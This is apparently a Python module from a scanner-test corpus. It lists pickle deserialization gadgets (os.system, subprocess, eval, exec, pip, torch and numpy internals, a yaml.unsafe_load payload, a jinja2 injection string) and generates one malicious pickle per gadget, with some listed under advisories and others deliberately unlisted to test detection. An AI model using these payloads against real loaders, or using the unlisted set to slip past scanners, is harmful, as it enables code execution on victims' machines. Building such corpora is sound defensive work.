"""Names that a pickle may call with arguments of its choice, and what such a call does: beyond any list of names.

The first part is in public advisories, the second is not: a scanner that knows the first list only has learnt names.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from corpus.opcodes import EVIL, call, dict_of, inst, literal, name, new, obj, program, stack_name, text
from corpus.sample import CANARY, CODE, SHELL, Draft, Harm, pickled

WORDS = ["touch", CANARY]
URL = f"http://127.0.0.1:9/{CANARY}"
MODULE_OS = call(name("importlib", "import_module"), text("os"))
LOGGING = {"version": 1, "formatters": {CANARY: {"()": "os.system", "command": SHELL}}}

ADVISED: tuple[tuple[str, str, tuple[object, ...], str], ...] = (
    ("os", "system", (SHELL,), ""),
    ("posix", "system", (SHELL,), ""),
    ("os", "popen", (SHELL,), ""),
    ("os", "execvp", ("touch", WORDS), ""),
    ("os", "spawnvp", (0, "touch", WORDS), ""),
    ("os", "posix_spawnp", ("touch", WORDS, {"PATH": "/usr/bin:/bin"}), ""),
    ("os", "mkdir", (CANARY,), ""),
    ("os", "remove", (CANARY,), ""),
    ("os", "rename", (CANARY, CANARY + "2"), ""),
    ("os", "symlink", ("nowhere", CANARY), ""),
    ("os", "putenv", (CANARY, "1"), ""),
    ("subprocess", "call", (WORDS,), ""),
    ("subprocess", "run", (WORDS,), ""),
    ("subprocess", "Popen", (WORDS,), ""),
    ("subprocess", "check_output", (WORDS,), ""),
    ("subprocess", "getoutput", (SHELL,), ""),
    ("subprocess", "getstatusoutput", (SHELL,), ""),
    ("builtins", "eval", (CODE,), ""),
    ("builtins", "exec", (CODE,), ""),
    ("builtins", "open", (CANARY, "w"), ""),
    ("builtins", "__import__", (CANARY,), ""),
    ("importlib", "import_module", (CANARY,), ""),
    ("io", "open", (CANARY, "w"), ""),
    ("_io", "FileIO", (CANARY, "w"), ""),
    ("runpy", "_run_code", (CODE, {}), ""),
    ("runpy", "run_module", (CANARY,), ""),
    ("pty", "spawn", (WORDS,), ""),
    ("shutil", "rmtree", (CANARY,), ""),
    ("shutil", "copyfile", ("/dev/null", CANARY), ""),
    ("webbrowser", "open", (URL,), ""),
    ("pip", "main", (["download", "--no-index", CANARY],), "CVE-2025-1716"),
    ("pip._internal.cli.main", "main", (["download", "--no-index", CANARY],), "CVE-2025-1716"),
    ("timeit", "timeit", (CODE, "pass", literal, 1), "GHSA-v7x6-rv5q-mhwc"),
    ("timeit", "repeat", (CODE, "pass", literal, 1, 1), ""),
    ("cProfile", "run", (CODE,), "GHSA-p9w7-82w4-7q8m"),
    ("cProfile", "runctx", (CODE, {}, {}), ""),
    ("profile", "run", (CODE,), ""),
    ("doctest", "debug_script", (CODE, True), ""),
    ("idlelib.calltip", "get_entity", (CODE,), ""),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (), ""),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", (), "CVE-2025-10157"),
    ("pydoc", "pipepager", ("x", f"cat > {CANARY}"), ""),
    ("pydoc", "locate", (CANARY,), ""),
    ("pkgutil", "resolve_name", (f"{CANARY}:x",), "GHSA-vvpj-8cmc-gx39"),
    ("uuid", "_get_command_stdout", ("touch", CANARY), "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support", "_read_output", (SHELL,), "GHSA-g38g-8gr9-h9xp"),
    ("_aix_support", "_read_cmd_output", (SHELL,), "GHSA-g38g-8gr9-h9xp"),
    ("distutils.spawn", "spawn", (WORDS,), ""),
    ("distutils.file_util", "write_file", (CANARY, ["x"]), "GHSA-3gf5-cxq9-w223"),
    ("ctypes", "CDLL", (f"lib{CANARY}.so",), ""),
    ("urllib.request", "urlopen", (URL,), ""),
    ("urllib.request", "urlretrieve", (URL, CANARY), ""),
    ("socket", "create_connection", (("127.0.0.1", 9), 1), ""),
    ("smtplib", "SMTP", ("127.0.0.1", 9), ""),
    ("ftplib", "FTP", ("127.0.0.1",), ""),
    ("numpy.testing._private.utils", "runstring", (CODE, {}), "GHSA-fqq6-7vqf-w3fg"),
    ("numpy.f2py.crackfortran", "myeval", (CODE, {}, {}), "GHSA-3329-ghmp-jmv5"),
    ("numpy.f2py.crackfortran", "getlincoef", (CODE, {}), "GHSA-9xph-j2h6-g47v"),
    ("torch.utils.collect_env", "run", (SHELL,), "GHSA-f745-w6jp-hpxx"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {}), "GHSA-9gvj-pp9x-gcfr"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {}), "GHSA-4whj-rm5r-c2v8"),
    ("sqlite3", "connect", (CANARY,), ""),
    ("shelve", "open", (CANARY,), ""),
    ("dbm.dumb", "open", (CANARY,), ""),
    ("commands", "getoutput", (SHELL,), ""),
    ("urllib2", "urlopen", (URL,), ""),
    ("__builtin__", "execfile", (CANARY,), ""),
    ("nt", "system", (SHELL,), ""),
)
"""Module, name, arguments and advisory. An empty tuple of arguments stands for a program of its own below."""

UNLISTED: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("imaplib", "IMAP4_stream", (SHELL,)),
    ("logging", "FileHandler", (CANARY,)),
    ("logging.config", "dictConfig", (LOGGING,)),
    ("numpy", "memmap", (CANARY, "u1", "w+", 0, (1,))),
    ("numpy", "save", (CANARY, 1)),
    ("numpy", "savetxt", (CANARY, [1.0])),
    ("numpy.testing._private.utils", "measure", (CODE,)),
    ("torch.fx.graph_module", "_forward_from_src", (f"{CODE}\ndef forward(self): pass", {})),
    ("torch.fx.graph_module", "_exec_with_source", (CODE, {})),
    ("torch.hub", "_load_local", (CANARY, "x")),
    ("torch", "save", ([1], CANARY)),
    ("torch.serialization", "save", ([1], CANARY)),
    ("torch.ops", "load_library", (CANARY,)),
    ("sympy.core.sympify", "sympify", (CODE,)),
    ("sympy", "sympify", (CODE,)),
    ("sympy.parsing.sympy_parser", "parse_expr", (CODE,)),
    ("sympy.parsing.sympy_parser", "eval_expr", (CODE, {}, {})),
    ("joblib.externals.loky.backend.fork_exec", "fork_exec", (["/usr/bin/touch", CANARY], [])),
    ("joblib", "dump", ([1], CANARY)),
    ("multiprocessing.util", "spawnv_passfds", (b"/usr/bin/touch", WORDS, [])),
    ("yaml", "unsafe_load", (f"!!python/object/apply:os.system ['{SHELL}']",)),
    ("jinja2.nativetypes", "NativeTemplate", ("{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}",)),
    ("pandas.io.common", "get_handle", (CANARY, "w")),
    ("pandas", "read_pickle", (CANARY,)),
    ("pandas.io.pickle", "read_pickle", (URL,)),
    ("pandas", "read_csv", (URL,)),
    ("tarfile", "open", (CANARY, "w")),
    ("zipfile", "ZipFile", (CANARY, "w")),
    ("gzip", "GzipFile", (CANARY, "w")),
    ("lzma", "LZMAFile", (CANARY, "w")),
    ("codecs", "open", (CANARY, "w")),
    ("tempfile", "mkdtemp", (CANARY,)),
    ("venv", "create", (CANARY,)),
    ("imp", "load_source", (CANARY, CANARY)),
    ("site", "addsitedir", (CANARY,)),
    ("py_compile", "compile", (CANARY,)),
    ("poplib", "POP3", ("127.0.0.1", 9)),
    ("telnetlib", "Telnet", ("127.0.0.1", 9)),
    ("ssl", "get_server_certificate", (("127.0.0.1", 9),)),
    ("invoke", "run", (SHELL,)),
    ("setuptools._distutils.spawn", "spawn", (WORDS,)),
    ("mailbox", "mbox", (CANARY,)),
    ("trace", "Trace.run", ()),
    ("bdb", "Bdb.run", ()),
    ("code", "InteractiveInterpreter.runcode", ()),
    ("typing", "ForwardRef._evaluate", ()),
    ("_xxsubinterpreters", "run_string", ()),
    ("_thread", "start_new_thread", ()),
    ("atexit", "register", ()),
    ("weakref", "finalize", ()),
    ("ctypes.util", "_findLib_gcc", (CANARY,)),
    ("_bootsubprocess", "check_output", (WORDS,)),
    ("xgboost.core", "Booster", (None, None, CANARY)),
    ("lightgbm.basic", "Booster", (None, None, CANARY)),
    ("catboost.core", "CatBoost.load_model", ()),
    ("matplotlib.pyplot", "imread", (CANARY,)),
    ("PIL.Image", "open", (CANARY,)),
    ("onnx", "load", (CANARY,)),
    ("safetensors.torch", "load_file", (CANARY,)),
    ("h5py", "File", (CANARY, "w")),
    ("h5py._hl.files", "File", (CANARY, "w")),
    ("scipy.io", "savemat", (CANARY, {})),
    ("scipy.io.matlab._mio", "loadmat", (CANARY,)),
    ("sklearn.datasets", "load_svmlight_file", (CANARY,)),
    ("sklearn.datasets", "load_files", (CANARY,)),
    ("six", "exec_", (CODE,)),
    ("attr._make", "_compile_and_eval", (CODE, {})),
    ("sympy", "Matrix", ([[CODE]],)),
    ("sympy", "diff", (CODE, "x")),
    ("sympy.polys.polytools", "Poly", (CODE,)),
    ("sympy.sets.sets", "FiniteSet", (CODE,)),
    ("sympy.core.containers", "Tuple", (CODE,)),
    ("wave", "open", (CANARY, "wb")),
    ("tokenize", "_builtin_open", (CANARY, "w")),
    ("random", "_os.mkdir", (CANARY,)),
    ("pyarrow.lib", "OSFile", (CANARY, "w")),
    ("matplotlib.cbook", "to_filehandle", (CANARY, "w")),
    ("joblib.disk", "mkdirp", (CANARY,)),
    ("safetensors.numpy", "save_file", ({}, CANARY)),
    ("lightgbm.basic", "_dump_pandas_categorical", (None, CANARY)),
    ("onnx", "_save_bytes", (b"x", CANARY)),
)
"""The same without an advisory."""


ELSEWHERE = {
    "nt.system",
    "__builtin__.execfile",
    "torch.utils.bottleneck.__main__.run_cprofile",
    "_aix_support._read_cmd_output",
}
"""Found on other systems or versions only, so that they cannot be proved here."""


READERS = {
    "xgboost.core.Booster",
    "lightgbm.basic.Booster",
    "catboost.core.CatBoost.load_model",
    "matplotlib.pyplot.imread",
    "PIL.Image.open",
    "onnx.load",
    "safetensors.torch.load_file",
    "scipy.io.matlab._mio.loadmat",
    "sklearn.datasets.load_svmlight_file",
    "sklearn.datasets.load_files",
}
"""Read a file of the attacker's choice into memory, and no more."""


def _special(module: str, attribute: str) -> bytes | None:
    """Arguments that are no plain data, as a whole call."""
    system = name("os", "system")
    source = text(CODE)
    calls = {
        "Grammar.loads": lambda f: call(f, call(name("lib2to3.pgen2.grammar", "Grammar")), literal(EVIL)),
        "_UnixSubprocessTransport._start": lambda f: call(
            f,
            new(name("argparse", "Namespace")),
            literal(WORDS),
            literal(False),
            literal(None),
            literal(None),
            literal(None),
            literal(-1),
        ),
        "Trace.run": lambda f: call(f, call(name("trace", "Trace"), literal(0), literal(0)), source),
        "Bdb.run": lambda f: call(f, call(name("bdb", "Bdb")), source),
        "InteractiveInterpreter.runcode": lambda f: call(
            f,
            call(name("code", "InteractiveInterpreter")),
            call(name("builtins", "compile"), source, text("x"), text("exec")),
        ),
        "ForwardRef._evaluate": lambda f: call(
            f, call(name("typing", "ForwardRef"), source), dict_of(), dict_of(), call(name("builtins", "frozenset"))
        ),
        "run_string": lambda f: call(f, call(name(module, "create")), source),
        "start_new_thread": lambda f: call(f, system, literal((SHELL,))),
        "register": lambda f: call(f, system, text(SHELL)),
        "finalize": lambda f: call(f, name("os", "path"), system, text(SHELL)),
        "CatBoost.load_model": lambda f: call(f, call(name("catboost.core", "CatBoost")), text(CANARY)),
    }
    make = calls.get(attribute)
    return make(stack_name(module, attribute)) if make else None


def drafts() -> Iterator[Draft]:
    """One pickle per gadget; the way of calling changes from one to the next."""
    table = [(*row[:3], row[3]) for row in ADVISED] + [(*row, "") for row in UNLISTED]
    for i, (module, attribute, plain, cve) in enumerate(table):
        technique = f"gadget-{module}.{attribute}"
        harm: Harm = "access" if f"{module}.{attribute}" in READERS else "code"
        whole = _special(module, attribute)
        if whole is not None:
            yield replace(pickled(technique, program(whole), cve=cve), harm=harm)
            continue
        if not plain:
            continue
        arguments = [name("time", "perf_counter") if value is literal else literal(value) for value in plain]
        old = module in ("commands", "urllib2", "__builtin__")
        made = pickled(
            technique,
            (
                program(inst(module, attribute, *arguments), protocol=2 if old else 3),
                program(call(name(module, attribute), *arguments), protocol=2),
                program(obj(name(module, attribute), *arguments), protocol=2 if old else 3),
                program(call(stack_name(module, attribute), *arguments), protocol=2 if old else 4),
            )[3 if "." in attribute else i % 4],  # dotted names are resolved from protocol 4 on only
            cve=cve,
            loader="" if f"{module}.{attribute}" in ELSEWHERE else "pickle",
        )
        yield replace(made, harm=harm)
